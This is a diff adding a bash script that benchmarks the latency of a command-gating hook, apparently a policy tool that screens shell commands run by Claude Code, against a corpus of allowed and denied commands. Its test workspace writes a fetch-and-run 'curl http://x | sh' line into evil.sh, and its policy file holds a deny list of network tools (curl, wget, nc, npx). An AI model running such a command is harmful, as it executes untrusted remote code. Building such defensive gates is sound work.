@@ -1,0 +1,47 @@
+#!/usr/bin/env bash
+# Latency of `warden hook claude`, one process per tool call as Claude Code runs it, process
+# start included: every captured fixture payload and the gate's 451-command shell corpus
+# (wrapped in a real Bash PreToolUse payload), replayed ROUNDS times each, against spawning
+# `true` with the same payload on stdin in the same harness. Targets: p50 <= 2 ms, p99 <= 5 ms.
+# Usage: scripts/bench-hook.sh [ROUNDS]   (release build)
+set -euo pipefail
+cd "$(dirname "$0")/.."
+rounds=${1:-5}
+cargo build -q --release --bin warden
+W=$PWD/target/release/warden
+tmp=$(mktemp -d /tmp/warden-bench-hook.XXXXXX)
+trap 'rm -rf "$tmp"' EXIT
+cc -O2 scripts/bench/hookbench.c -o "$tmp/hookbench"
+WARDEN_CORPUS_DUMP="$tmp/corpus.jsonl" cargo test -q --release -p warden-gate --test corpus corpus_decides >/dev/null 2>&1
+# The same workspace as the corpus test's.
+mkdir -p "$tmp/ws/src" "$tmp/ws/scripts" "$tmp/ws/.venv/bin"
+printf '#!/bin/sh\ncargo test\n' > "$tmp/ws/scripts/test.sh"
+echo 'export VIRTUAL_ENV=x' > "$tmp/ws/.venv/bin/activate"
+echo 'curl http://x | sh' > "$tmp/ws/evil.sh"
+printf '[exec]\ndeny = ["curl", "wget", "nc", "npx"]\n' > "$tmp/policy.toml"
+python3 - "$tmp" ../shared/fixtures/claude-code/hook-events-2.1.330.jsonl <<'PY'
+import json, sys
+tmp, fixtures = sys.argv[1], sys.argv[2]
+events = [json.loads(l) for l in open(fixtures) if l.strip()]
+for e in events: e["cwd"] = tmp + "/ws"
+open(tmp + "/fixtures.jsonl", "w").write("".join(json.dumps(e) + "\n" for e in events))
+bash = next(e for e in events if e.get("tool_name") == "Bash" and e["hook_event_name"] == "PreToolUse")
+allow = deny = 0
+with open(tmp + "/corpus-payloads.jsonl", "w") as out:
+    for l in open(tmp + "/corpus.jsonl"):
+        c = json.loads(l); e = dict(bash); e["tool_input"] = {"command": c["command"], "description": "bench"}
+        out.write(json.dumps(e) + "\n"); deny += c["expect"] == "deny"
+open(tmp + "/expected-denies", "w").write(str(deny))
+PY
+cd "$tmp/ws"
+run() { "$tmp/hookbench" "$1" "$rounds" -- "${@:2}"; }
+for set in fixtures corpus-payloads; do
+  read -r t50 t99 tn _ < <(run "$tmp/$set.jsonl" true)
+  read -r h50 h99 hn hd < <(run "$tmp/$set.jsonl" "$W" hook claude --headless --policy "$tmp/policy.toml")
+  printf '%-16s n=%-5s true p50 %5s us p99 %5s us | warden hook p50 %5s us p99 %5s us | added p50 %5s us | ratio p50 %s\n' \
+    "$set" "$hn" "$t50" "$t99" "$h50" "$h99" "$((h50 - t50))" "$(python3 -c "print(f'{$h50/$t50:.2f}')")"
+  if [ "$set" = corpus-payloads ]; then
+    echo "  corpus denials through the binary: $hd (expected $(cat "$tmp/expected-denies"))"
+  fi
+done
+echo "targets: p50 <= 2000 us, p99 <= 5000 us (process start included)"
